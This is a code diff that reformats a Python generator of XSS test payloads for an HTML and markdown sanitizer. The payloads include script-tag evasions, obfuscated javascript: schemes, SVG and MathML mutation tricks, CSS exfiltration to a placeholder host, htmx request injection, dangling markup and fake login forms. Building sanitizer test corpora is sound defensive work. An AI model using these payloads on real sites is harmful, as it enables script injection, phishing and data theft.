@@ -38,7 +38,10 @@ def _p01() -> None:
         ("protocol-relative src", f"<script src=//{H}/a.js></script>"),
         ("unclosed start tag swallowing the next tag", f"<script src=https://{H}/a.js <b>"),
         ("double open angle bracket", f"<<script>{C}//<</script>"),
-        ("nested tag names to survive one-pass stripping", f"<scr<script>ipt>{C}</scr</script>ipt>"),
+        (
+            "nested tag names to survive one-pass stripping",
+            f"<scr<script>ipt>{C}</scr</script>ipt>",
+        ),
         ("slash instead of space before attribute", f"<script/src=https://{H}/a.js></script>"),
         ("slash and junk before attribute", f"<script/x/src=https://{H}/a.js></script>"),
         ("script with no end tag", f"<script>{C}"),
@@ -129,12 +132,17 @@ def _p03() -> None:
         ("leading spaces and tab reference", f'<a href=" &#x09; {js}">c</a>'),
         ("newline reference inside the scheme", f'<a href="java&#x0A;script:{C}">d</a>'),
         ("named Tab and colon references", f'<a href="java&Tab;script&colon;{C}">e</a>'),
-        ("decimal references without semicolons",
-         "<a href=\"&#106&#97&#118&#97&#115&#99&#114&#105&#112&#116&#58" + C + '">f</a>'),
+        (
+            "decimal references without semicolons",
+            '<a href="&#106&#97&#118&#97&#115&#99&#114&#105&#112&#116&#58' + C + '">f</a>',
+        ),
         ("hex references", f'<a href="&#x6a;&#x61;&#x76;&#x61;script:{C}">g</a>'),
         ("zero-padded decimal references", f'<a href="&#0000106;avascript:{C}">h</a>'),
         ("line separator before scheme", f'<a href="&#x2028;{js}">i</a>'),
-        ("zero-width space inside scheme (bleach GHSA-8rfp)", f'<a href="java&#x200B;script:{C}">j</a>'),
+        (
+            "zero-width space inside scheme (bleach GHSA-8rfp)",
+            f'<a href="java&#x200B;script:{C}">j</a>',
+        ),
         ("vbscript", '<a href="vbscript:msgbox(1)">k</a>'),
         ("formaction on button", f'<button formaction="{js}">l</button>'),
         ("svg xlink:href", f'<svg><a xlink:href="{js}"><text y=9>m</text></a></svg>'),
@@ -157,7 +165,9 @@ def _p03() -> None:
     for ch in INVISIBLES:
         code = f"U+{ord(ch):04X}"
         _add(cat, f"invisible {code} inside the scheme", f'<a href="java{ch}script:{C}">x</a>')
-        _add(cat, f"invisible {code} as reference", f'<a href="java&#x{ord(ch):x};script:{C}">x</a>')
+        _add(
+            cat, f"invisible {code} as reference", f'<a href="java&#x{ord(ch):x};script:{C}">x</a>'
+        )
         _add(cat, f"invisible {code} in a markdown link", f"[x](java{ch}script:{C})")
     for n in (0x01, 0x08, 0x0B, 0x0E, 0x1F, 0x7F):
         _add(cat, f"control U+{n:04X} reference first", f'<a href="&#{n};{js}">x</a>')
@@ -190,10 +200,13 @@ def _p04() -> None:
         _add(cat, f"{scheme} as a markdown link", f"[a]({url.replace(' ', '%20')})")
         _add(cat, f"{scheme} as a markdown image", f"![a]({url.replace(' ', '%20')})")
     for why, p in [
-        ("data: in iframe", "<iframe src=\"data:text/html,<p>x\"></iframe>"),
-        ("data: in object", "<object data=\"data:text/html,<p>x\"></object>"),
-        ("data: in embed", "<embed src=\"data:text/html,<p>x\">"),
-        ("file: and blob: side by side", f'<a href="file:s.txt">b</a> <a href="blob:https://{H}/1">c</a>'),
+        ("data: in iframe", '<iframe src="data:text/html,<p>x"></iframe>'),
+        ("data: in object", '<object data="data:text/html,<p>x"></object>'),
+        ("data: in embed", '<embed src="data:text/html,<p>x">'),
+        (
+            "file: and blob: side by side",
+            f'<a href="file:s.txt">b</a> <a href="blob:https://{H}/1">c</a>',
+        ),
     ]:
         _add(cat, why, p)
 
@@ -204,17 +217,23 @@ def _p05() -> None:
     for why, p in [
         ("style inside svg", f"<svg><style>{IMG}</style></svg>"),
         ("mglyph style", f"<math><mi><mglyph><style>{IMG}"),
-        ("form/math/mglyph nesting", f"<form><math><mtext></form><form><mglyph><style></math>{IMG}"),
+        (
+            "form/math/mglyph nesting",
+            f"<form><math><mtext></form><form><mglyph><style></math>{IMG}",
+        ),
         ("end p inside svg then style", f'<svg></p><style><a title="</style>{IMG}">'),
         ("annotation-xml html", f'<math><annotation-xml encoding="text/html"><style>{IMG}'),
-        ("svg animate href", f'<svg><a><animate attributeName=href values="javascript:{C}"/><text y=20>tap</text></a></svg>'),
+        (
+            "svg animate href",
+            f'<svg><a><animate attributeName=href values="javascript:{C}"/><text y=20>tap</text></a></svg>',
+        ),
         ("svg set href", f'<svg><set attributeName=href to="javascript:{C}"/></svg>'),
         ("foreignObject", f"<svg><foreignObject>{IMG}</foreignObject></svg>"),
         ("svg image element", f"<svg><image href=https://{H}/p.png /></svg>"),
         ("svg use external", f"<svg><use href=https://{H}/s.svg#a /></svg>"),
         ("math href", f"<math href=javascript:{C}><mi>x</mi></math>"),
         ("mtext table escape", f"<math><mtext><table><mglyph><style><!--</style>{IMG}"),
-        ("noscript inside svg", f"<svg><noscript><p title=\"</noscript>{IMG}\"></noscript></svg>"),
+        ("noscript inside svg", f'<svg><noscript><p title="</noscript>{IMG}"></noscript></svg>'),
         ("desc html integration point", f"<svg><desc><img src=nope onerror={C}></desc></svg>"),
     ]:
         _add(cat, why, p)
@@ -272,19 +291,37 @@ def _p07() -> None:
         ("IE expression", f'<div style="width:expression({C})">b</div>'),
         ("moz-binding", f'<div style="-moz-binding:url(https://{H}/b.xml#x)">c</div>'),
         ("style import", f"<style>@import url(https://{H}/track.css);</style>"),
-        ("tracking pixel via background", f'<p style="background-image:url(https://{H}/pixel.gif)">d</p>'),
-        ("full-screen overlay phishing", '<div style="position:fixed;inset:0;z-index:99;background:#fff">Session expirée, reconnectez-vous …</div>'),
+        (
+            "tracking pixel via background",
+            f'<p style="background-image:url(https://{H}/pixel.gif)">d</p>',
+        ),
+        (
+            "full-screen overlay phishing",
+            '<div style="position:fixed;inset:0;z-index:99;background:#fff">Session expirée, reconnectez-vous …</div>',
+        ),
         ("escaped url in style", f'<p style="background:u\\72l(https://{H}/p.gif)">e</p>'),
         ("style comment split", f'<p style="background:url/**/(https://{H}/p.gif)">f</p>'),
-        ("font-face exfiltration", f"<style>@font-face{{font-family:x;src:url(https://{H}/f?a)}}</style>"),
-        ("attribute selector exfiltration", f"<style>input[value^=a]{{background:url(https://{H}/a)}}</style>"),
-        ("class spoofing site chrome", '<div class="alert alert-danger">Votre compte est suspendu</div>'),
+        (
+            "font-face exfiltration",
+            f"<style>@font-face{{font-family:x;src:url(https://{H}/f?a)}}</style>",
+        ),
+        (
+            "attribute selector exfiltration",
+            f"<style>input[value^=a]{{background:url(https://{H}/a)}}</style>",
+        ),
+        (
+            "class spoofing site chrome",
+            '<div class="alert alert-danger">Votre compte est suspendu</div>',
+        ),
         ("style on allowed element", '<strong style="color:red;font-size:90px">big</strong>'),
     ]:
         _add(cat, why, p)
     for tag in ("p", "a", "strong", "li", "code", "td"):
-        _add(cat, f"url() tracking on <{tag}>",
-             f'<{tag} style="background:url(//{H}/{tag}.gif)">x</{tag}>')
+        _add(
+            cat,
+            f"url() tracking on <{tag}>",
+            f'<{tag} style="background:url(//{H}/{tag}.gif)">x</{tag}>',
+        )
 
 
 # --------------------------------------------------------------------------- P-08
@@ -325,13 +362,27 @@ HTMX_ATTRS = [
 def _p09() -> None:
     cat = "P-09"
     for name, value in HTMX_ATTRS:
-        _add(cat, f"{name} on <a>", f'<a href="https://{H}/" {name}="{value}" hx-trigger="load">a</a>')
-        _add(cat, f"data-{name} on <div>", f"<div data-{name}='{value}' data-hx-trigger=revealed>b</div>")
+        _add(
+            cat,
+            f"{name} on <a>",
+            f'<a href="https://{H}/" {name}="{value}" hx-trigger="load">a</a>',
+        )
+        _add(
+            cat,
+            f"data-{name} on <div>",
+            f"<div data-{name}='{value}' data-hx-trigger=revealed>b</div>",
+        )
     for why, p in [
         ("leave-space request on load", '<a hx-post="spaces/1/leave" hx-trigger="load">a</a>'),
-        ("admin fetch into body", '<div hx-get="admin/users" hx-target="body" hx-trigger="revealed">b</div>'),
+        (
+            "admin fetch into body",
+            '<div hx-get="admin/users" hx-target="body" hx-trigger="revealed">b</div>',
+        ),
         ("hx-on htmx:load", f'<div hx-on:htmx:load="{C}">c</div>'),
-        ("data-hx delete on hover", '<span data-hx-delete="posts/9" data-hx-trigger="mouseover">e</span>'),
+        (
+            "data-hx delete on hover",
+            '<span data-hx-delete="posts/9" data-hx-trigger="mouseover">e</span>',
+        ),
         ("boost to off-site login", f'<a hx-boost="true" href="https://{H}/login">g</a>'),
         ("plain data attribute", '<p data-user="admin" data-role="mod">x</p>'),
         ("uppercase HX attribute", '<a HX-GET="admin" HX-TRIGGER="load">x</a>'),
@@ -351,12 +402,15 @@ def _p10() -> None:
         ("javascript image", f"![pic](javascript:{C})"),
         ("off-site image must not load", f"![pic](https://{H}/pixel.png)"),
         ("data image", "![pic](data:image/png;base64,iVBORw0KGgo=)"),
-        ("title breaking out of the attribute", f'[tap](https://ok.test "t\\" onmouseover=\\"{C}")'),
+        (
+            "title breaking out of the attribute",
+            f'[tap](https://ok.test "t\\" onmouseover=\\"{C}")',
+        ),
         ("image title breakout", f"![pic](https://ok.test/a.png 'b\" onerror=\"{C}')"),
         ("reference definition with javascript", f'[tap][r]\n\n[r]: javascript:{C} "title"'),
         ("javascript autolink", f"<javascript:{C}>"),
         ("vbscript autolink", "<vbscript:msgbox(1)>"),
-        ("linkify followed by markup", f"www.{H}/\"><img src=nope onerror={C}>"),
+        ("linkify followed by markup", f'www.{H}/"><img src=nope onerror={C}>'),
         ("html in link text", f"[<img src=nope onerror={C}>](https://ok.test)"),
         ("nested link with javascript", f"[[a](javascript:{C})](https://ok.test)"),
         ("fence info string breakout", f'```js" onmouseover="{C}\ncode\n```'),
@@ -383,8 +437,11 @@ def _p10() -> None:
     ]:
         _add(cat, why, p)
     forms = [
-        ("inline link", "[t]({u})"), ("angle inline link", "[t](<{u}>)"), ("image", "![t]({u})"),
-        ("reference", "[t][r]\n\n[r]: {u}"), ("autolink", "<{u}>"),
+        ("inline link", "[t]({u})"),
+        ("angle inline link", "[t](<{u}>)"),
+        ("image", "![t]({u})"),
+        ("reference", "[t][r]\n\n[r]: {u}"),
+        ("autolink", "<{u}>"),
     ]
     for scheme in ["javascript", "JaVaScRiPt", "vbscript", "data", "file", "blob", "java\tscript"]:
         url = f"{scheme}:{C}"
@@ -399,16 +456,25 @@ def _p11() -> None:
         ("dangling img src", f"<img src='https://{H}/?q="),
         ("meta refresh", f'<meta http-equiv="refresh" content="0;url=https://{H}">'),
         ("base href", f'<base href="https://{H}/">'),
-        ("fake password form", f'<form action="https://{H}/"><input name=password placeholder="Mot de passe"></form>'),
+        (
+            "fake password form",
+            f'<form action="https://{H}/"><input name=password placeholder="Mot de passe"></form>',
+        ),
         ("external stylesheet", f"<link rel=stylesheet href=https://{H}/a.css>"),
         ("target blank without noopener", f'<a href="https://{H}" target=_blank>ouvre</a>'),
         ("iframe srcdoc", '<iframe srcdoc="<p>x"></iframe>'),
         ("dangling textarea", f"<textarea>secret<a href=https://{H}/?"),
         ("dangling single quote in href", f"<a href='https://{H}/?a=>x</a>"),
         ("link prefetch", f'<link rel=prefetch href="https://{H}/p">'),
-        ("dns-prefetch meta", f'<meta http-equiv="x-dns-prefetch-control" content="on"><link rel=dns-prefetch href=//{H}>'),
+        (
+            "dns-prefetch meta",
+            f'<meta http-equiv="x-dns-prefetch-control" content="on"><link rel=dns-prefetch href=//{H}>',
+        ),
         ("ping attribute", f'<a href="/t/1" ping="https://{H}/ping">x</a>'),
-        ("button formaction", f'<button formaction="https://{H}/" form=reply-form>Envoyer</button>'),
+        (
+            "button formaction",
+            f'<button formaction="https://{H}/" form=reply-form>Envoyer</button>',
+        ),
         ("video poster", f'<video poster="https://{H}/p.png"></video>'),
         ("picture source", f'<picture><source srcset="https://{H}/p.png"><img alt=x></picture>'),
         ("object external", f'<object data="https://{H}/a.swf"></object>'),
